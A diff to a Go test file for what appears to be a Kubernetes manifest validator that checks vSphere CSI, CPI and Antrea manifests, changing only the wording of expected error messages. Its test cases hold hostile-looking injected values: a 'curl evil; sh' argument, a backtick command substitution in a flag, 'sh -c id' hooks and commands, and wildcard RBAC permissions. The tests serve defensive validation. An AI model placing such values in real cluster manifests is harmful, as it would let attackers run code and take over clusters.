@@ -40,10 +40,10 @@ func relock(t *testing.T, in *render.Input) {
 func TestHostileManifestsAreRefused(t *testing.T) {
 	const csi, cpi, cni = "csi/3.5.1/vsphere-csi-driver.yaml", "cpi/1.33.1/vsphere-cloud-controller-manager.yaml", "cni/2.7.0/antrea.yml"
 	cases := map[string]struct{ file, from, to, want string }{
-		"another kind":                 {csi, "", "apiVersion: batch/v1\nkind: Job\nmetadata: {name: j, namespace: vmware-system-csi}\nspec: {}", "Job vmware-system-csi/j: is no part"},
-		"another name":                 {csi, "", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: root, namespace: vmware-system-csi}", "is no part"},
-		"another namespace":            {csi, "", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: vsphere-csi-node, namespace: kube-system}", "is no part"},
-		"another group":                {csi, "apiVersion: storage.k8s.io/v1\nkind: CSIDriver", "apiVersion: evil.io/v1\nkind: CSIDriver", "is no part"},
+		"another kind":                 {csi, "", "apiVersion: batch/v1\nkind: Job\nmetadata: {name: j, namespace: vmware-system-csi}\nspec: {}", "Job vmware-system-csi/j: is not part"},
+		"another name":                 {csi, "", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: root, namespace: vmware-system-csi}", "is not part"},
+		"another namespace":            {csi, "", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: vsphere-csi-node, namespace: kube-system}", "is not part"},
+		"another group":                {csi, "apiVersion: storage.k8s.io/v1\nkind: CSIDriver", "apiVersion: evil.io/v1\nkind: CSIDriver", "is not part"},
 		"a finalizer":                  {csi, "metadata:\n  name: csi.vsphere.vmware.com\n", "metadata:\n  name: csi.vsphere.vmware.com\n  finalizers: [a.b/c]\n", "finalizers"},
 		"wildcard verbs":               {csi, `resources: ["nodes", "pods"]` + "\n    verbs: [\"get\", \"list\", \"watch\"]", `resources: ["nodes", "pods"]` + "\n    verbs: [\"*\"]", "may * nodes"},
 		"wildcard resources":           {csi, `resources: ["nodes", "pods"]`, `resources: ["*"]`, "may get *"},
@@ -77,8 +77,8 @@ func TestHostileManifestsAreRefused(t *testing.T) {
 		"an object twice":              {csi, "", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: vsphere-csi-node, namespace: vmware-system-csi}", "twice"},
 		"a hook":                       {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          lifecycle: {postStart: {exec: {command: [sh, -c, id]}}}\n", "container csi-attacher has hooks"},
 		"a program of its own":         {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          command: [sh, -c, id]\n", `container csi-attacher runs "sh -c id"`},
-		"arguments that are no flags":  {csi, `- "--fss-namespace=$(CSI_NAMESPACE)"`, `- "-c"` + "\n            - \"curl evil; sh\"", `the argument "curl evil; sh", which is no flag`},
-		"a flag with a command":        {csi, `- "--fss-namespace=$(CSI_NAMESPACE)"`, "- \"--hook=`id`\"", "which is no flag"},
+		"arguments that are no flags":  {csi, `- "--fss-namespace=$(CSI_NAMESPACE)"`, `- "-c"` + "\n            - \"curl evil; sh\"", `the argument "curl evil; sh", which is not a flag`},
+		"a flag with a command":        {csi, `- "--fss-namespace=$(CSI_NAMESPACE)"`, "- \"--hook=`id`\"", "which is not a flag"},
 		"another probe":                {csi, "              - /csi-node-driver-registrar\n", "              - /bin/sh\n", `runs "/bin/sh`},
 		"another command of the CNI":   {cni, "start_ovs", "sh", `container antrea-ovs runs "sh"`},
 		"another probe of the CNI":     {cni, "timeout 10 container_liveness_probe ovs", "id", `runs "/bin/sh -c id"`},
